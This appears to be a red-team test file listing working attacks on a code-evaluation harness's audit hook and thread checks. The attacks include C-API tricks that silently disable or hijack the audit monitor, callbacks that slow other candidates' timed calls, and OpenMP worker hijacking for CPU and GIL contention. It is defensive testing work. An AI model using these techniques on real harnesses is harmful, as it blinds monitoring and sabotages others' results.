# ruff: noqa
"""Session-59 red-team attacks on workers.audit (Python audit hook) and workers.teams.
Same shape as attacks58.ATTACKS: name -> {"c": C++ defining rt_attack(), "env": ...}."""
from attacks58 import ATTACKS as A58, PY_PRELUDE
ATTACKS = dict(A58)

# turn workers.audit's window off through C-API calls that raise no audit event
# (PyImport_AddModule: sys.modules lookup; PyObject_GetAttrString; PyList_SetItem),
# then run Python freely: the hook sees WINDOW[0] False and keeps nothing.
OFF = PY_PRELUDE + r'''
typedef struct _object PyObject;
extern "C" PyObject* PyImport_AddModule(const char*);
extern "C" PyObject* PyObject_GetAttrString(PyObject*, const char*);
extern "C" int PyList_SetItem(PyObject*, long, PyObject*);
extern "C" PyObject* PyBool_FromLong(long);
extern "C" void Py_DecRef(PyObject*);
static void rt_off_py(const char* src) {
  int g = PyGILState_Ensure();
  PyObject* m = PyImport_AddModule("workers.audit");   // borrowed
  if (m) { PyObject* w = PyObject_GetAttrString(m, "WINDOW");
           if (w) { PyList_SetItem(w, 0, PyBool_FromLong(0)); Py_DecRef(w); } }
  PyRun_SimpleString(src);
  PyGILState_Release(g);
}
'''
HOOK_OFF_SRC = r'''
import gc, sys
n = len(gc.get_objects())
f = sys._getframe(0)
exec(compile("x = 1", "<rt>", "exec"))
print("rt: hook_off ran python, gc objects", n, file=sys.stderr, flush=True)
'''
def _py(src, once=True):
    return ("static const char* RT_SRC = R\"PY(" + src + ")PY\";\n"
            "static void rt_attack() { static bool d = false; if (d) return; d = true; rt_off_py(RT_SRC); }\n")
ATTACKS["hook_off"] = {"c": OFF + _py(HOOK_OFF_SRC)}
# control: same Python with the window left on (should be CAUGHT)
ATTACKS["hook_on"] = {"c": PY_PRELUDE + "static const char* RT_SRC = R\"PY(" + HOOK_OFF_SRC +
    ")PY\";\nstatic void rt_attack() { static bool d = false; if (d) return; d = true; rt_py(RT_SRC); }\n"}

# take over the installed hook object's slots (instance state, not watched): its window
# becomes an object whose [0] is always True, its taken a list whose len is 0, iter empty
# and whose append is the attacker's callback, its get_ident never the main thread's (no
# send). The attacker now sees every audit event of the process in every later job (what
# "no other audit hook is taken" was to prevent); the harness's own WINDOW/_TAKEN are no
# longer read by the hook, so nothing is ever reported again. In later libraries' jobs the
# callback busy-waits __US__ us per event (and logs each new event once).
HIJACK_SRC = r'''
import gc, sys, time
import workers.audit as _a
_m = sys.modules['__main__']
_h = [o for o in gc.get_objects() if type(o).__name__ == 'Harness'][0]
_first = len(_h.libs)
hook = _a._INSTALLED[0]
_seen = set(); _g = [False]; _cnt = {}
class _W(list):
    def __getitem__(self, i): return True
class _T(list):
    def __len__(self): return 0
    def __iter__(self): return iter(())
    def append(self, item):
        if _g[0]: return
        _g[0] = True
        try:
            ev = item[0]
            later = len(_h.libs) > _first
            _cnt[ev] = _cnt.get(ev, 0) + 1
            if ev not in _seen and len(_seen) < 60:
                _seen.add(ev)
                print("rt: event", ev, item[1][:60], "later" if later else "own", file=sys.stderr, flush=True)
            if later and __US__:
                t = time.perf_counter() + __US__e-6
                while time.perf_counter() < t: pass
        finally:
            _g[0] = False
hook.window = _W([False]); hook.taken = _T(); hook.get_ident = lambda: -1
_m._rt_cnt = _cnt
print("rt: hook hijacked, first", _first, file=sys.stderr, flush=True)
'''
ATTACKS["hook_hijack"] = {"c": OFF + _py(HIJACK_SRC.replace("__US__", "300"))}
ATTACKS["hook_hijack0"] = {"c": OFF + _py(HIJACK_SRC.replace("__US__", "0"))}

# hook_hijack plus: at any audit event in a later job (the hook's callback is now the
# attacker's), every later CDLL in Harness.libs gets its solve's ``errcheck`` set (a
# ctypes function pointer's Python post-call callback: not in harness.parts(), which
# compares the pointer, restype and argtypes) to a function that busy-waits __US__ us and
# returns the result: inside every timed call of every later candidate. No thread, no
# STATES entry, no event reported (the hook is the attacker's).
ERRCHECK_SRC = HIJACK_SRC.replace('''            if later and __US__:
                t = time.perf_counter() + __US__e-6
                while time.perf_counter() < t: pass''', '''            if later:
                for p, lib in list(_h.libs.items()):
                    s = getattr(lib, "__dict__", {}).get("solve")
                    if s is not None and s.errcheck is None and p not in _own:
                        s.errcheck = _slow
                        print("rt: errcheck set on", p[-40:], file=sys.stderr, flush=True)''').replace(
    "_first = len(_h.libs)", "_first = len(_h.libs)\n_own = set(_h.libs)\n"
    "def _slow(r, f, a):\n    t = time.perf_counter() + __US__e-6\n    while time.perf_counter() < t: pass\n    return r\n")
ATTACKS["errcheck"] = {"c": OFF + _py(ERRCHECK_SRC.replace("__US__", "300"))}

# omp_hijack (session 57) made to pass workers.teams: before the hijack, the attacker reads
# /proc/self/task/*/syscall for the idle libgomp worker's wait (futex, sp0, pc0); the
# hijacked worker then alternates: parked __PARK__ ms at exactly that wait (rsp set to sp0,
# a jump to libgomp's own `syscall` instruction at pc0-2, FUTEX_LOCK_PI with a timeout on a
# word owned by the main thread, so the kernel sets FUTEX_WAITERS and libgomp's leaf wait
# function, seeing the word changed, returns through [sp0], which holds our continuation),
# then __HOLD__ ms holding the GIL (PyGILState_Ensure: no Python frame, no audit event).
from pathlib import Path as _P
PARK_H = (_P(__file__).resolve().parent / "std" / "park.h").read_text()
OMP_PARK = OMP_HIJACK_BASE = None
import attacks58 as _a58, re as _re
_src = _a58.OMP_HIJACK
_src = _src.replace('''static void rt_worker(void*) {
  if (omp_get_thread_num() == 0) return;
  for (;;) { int g = PyGILState_Ensure(); double e = rt_now() + __HOLD__; while (rt_now() < e) {} PyGILState_Release(g); usleep(200); }
}''', '''static void rt_worker(void*) {
  if (omp_get_thread_num() == 0) return;
  int me = syscall(SYS_gettid);
  for (int i = 0; i < rt_nwaits; ++i) if (rt_waits[i].tid == me) {
    for (long n = 0;; ++n) { long r = rt_park(rt_waits[i], __PARK__); if (n < 3 || n % 250 == 0) fprintf(stderr, "rt: park %ld -> %lx word %x t=%.3f\\n", n, r, rt_pi_word, rt_now()); int g = PyGILState_Ensure(); double e = rt_now() + __HOLD__e-3; while (rt_now() < e) {} PyGILState_Release(g); }
  }
  fprintf(stderr, "rt: worker %d has no wait taken\\n", me);
}''').replace("  GOMP_parallel_start(rt_worker, nullptr, 2);", "  rt_take_waits(); fprintf(stderr, \"rt: waits %d\\n\", rt_nwaits);\n  GOMP_parallel_start(rt_worker, nullptr, 2);")
assert "rt_park" in _src and "rt_take_waits" in _src
OMP_PARK = PY_PRELUDE + PARK_H + _src
ATTACKS["omp_park"] = {"c": OMP_PARK.replace("__PARK__", "3.0").replace("__HOLD__", "3")}
ATTACKS["omp_park_light"] = {"c": OMP_PARK.replace("__PARK__", "8.0").replace("__HOLD__", "1")}
ATTACKS["omp_park2"] = {**ATTACKS["omp_park"], "env": {"OMP_NUM_THREADS": "2"}}
ATTACKS["omp_park_heavy"] = {"c": OMP_PARK.replace("__PARK__", "1.0").replace("__HOLD__", "8")}
ATTACKS["omp_park_heavy2"] = {**ATTACKS["omp_park_heavy"], "env": {"OMP_NUM_THREADS": "2"}}
ATTACKS["omp_park_duty"] = {"c": OMP_PARK.replace("__PARK__", "0.1").replace("__HOLD__", "4")}
ATTACKS["omp_park_duty2"] = {**ATTACKS["omp_park_duty"], "env": {"OMP_NUM_THREADS": "2"}}

# CPU-contention variant: the parked worker (teams check passed as in omp_park) spins
# without the GIL, pinned each cycle to the CPU the harness's main thread last ran on
# (/proc/self/task/PID/stat field 39), at the main thread's own scheduling policy and
# priority where it may set it (sched_setscheduler on its own tid only).
_cpu = OMP_PARK.replace('int g = PyGILState_Ensure(); double e = rt_now() + __HOLD__e-3; while (rt_now() < e) {} PyGILState_Release(g); }',
  'rt_follow(); double e = rt_now() + __HOLD__e-3; while (rt_now() < e) {} }').replace(
  "static void rt_worker(void*) {", r'''#include <sched.h>
#include <sys/resource.h>
static int rt_main_cpu() {
  char p[64], b[1024]; snprintf(p, sizeof p, "/proc/self/task/%d/stat", getpid());
  FILE* f = fopen(p, "r"); if (!f) return -1; size_t n = fread(b, 1, sizeof b - 1, f); fclose(f); b[n] = 0;
  char* s = strrchr(b, ')'); if (!s) return -1; int field = 2; int cpu = -1;
  for (char* t = strtok(s + 1, " "); t; t = strtok(nullptr, " ")) { ++field; if (field == 39) { cpu = atoi(t); break; } }
  return cpu;
}
static void rt_follow() {
  int c = rt_main_cpu(); if (c < 0) return;
  cpu_set_t m; CPU_ZERO(&m); CPU_SET(c, &m); sched_setaffinity(0, sizeof m, &m);
}
static void rt_worker(void*) {
  { sched_param sp; int pol = sched_getscheduler(getpid()); sched_getparam(getpid(), &sp);
    int r = sched_setscheduler(0, pol, &sp); rlimit rl; getrlimit(RLIMIT_RTPRIO, &rl);
    fprintf(stderr, "rt: main policy %d prio %d, worker set -> %d, rtprio limit %ld\n", pol, sp.sched_priority, r, (long)rl.rlim_cur); }''')
assert "rt_follow();" in _cpu
ATTACKS["omp_park_cpu"] = {"c": _cpu.replace("__PARK__", "0.1").replace("__HOLD__", "4")}

# teams-check bypass as omp_park; the worker's active phase does TLB-shootdown churn in
# the shared address space (mmap a page, touch it, munmap it: each munmap IPIs the CPU the
# main thread runs on, and takes mmap_lock for write) instead of holding the GIL.
_tlb = OMP_PARK.replace('int g = PyGILState_Ensure(); double e = rt_now() + __HOLD__e-3; while (rt_now() < e) {} PyGILState_Release(g); }',
  'double e = rt_now() + __HOLD__e-3; while (rt_now() < e) { for (int k = 0; k < 32; ++k) { char* p = (char*)mmap(nullptr, 4096, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0); if (p != MAP_FAILED) { p[0] = 1; munmap(p, 4096); } } } }').replace(
  "#include <omp.h>", "#include <omp.h>\n#include <sys/mman.h>")
assert "munmap" in _tlb
ATTACKS["omp_park_tlb"] = {"c": _tlb.replace("__PARK__", "0.1").replace("__HOLD__", "4")}
# the CPU variant with the worker re-pinned to the main thread's CPU every ~20 us
_cpu2 = _cpu.replace("rt_follow(); double e = rt_now() + __HOLD__e-3; while (rt_now() < e) {} }",
  "double e = rt_now() + __HOLD__e-3; while (rt_now() < e) { rt_follow(); double f = rt_now() + 20e-6; while (rt_now() < f) {} } }")
assert _cpu2 != _cpu
ATTACKS["omp_park_cpu2"] = {"c": _cpu2.replace("__PARK__", "0.1").replace("__HOLD__", "4")}
